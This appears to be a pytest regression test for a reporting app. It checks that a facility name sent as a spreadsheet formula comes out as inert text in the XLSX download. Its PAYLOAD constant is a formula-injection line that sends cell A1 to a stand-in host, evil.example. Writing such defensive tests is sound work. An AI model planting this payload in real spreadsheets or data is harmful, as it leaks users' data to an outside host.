"""End to end: a phone's text in a name list (a facility of '=HYPERLINK(...)') reaches the
town's XLSX download as text, never as a live formula (review item 4)."""
import io

import openpyxl

from tests.reports.test_lists_submit import send  # noqa: F401 - fixtures

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_facility_sent_as_a_formula_is_downloaded_as_text(send, client, db, login):
    send("termination_without_approval", {"outcome_date": "2026-11-12", "facility": PAYLOAD},
         held=True)
    r = client.get("/reports/1/2026-11.xlsx?village=dongwan", headers=login("admin"))
    assert r.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(r.data))
    assert [(s.title, c.coordinate) for s in book for row in s.iter_rows() for c in row
            if c.data_type == "f"] == []
    assert PAYLOAD in [c.value for s in book for row in s.iter_rows() for c in row]
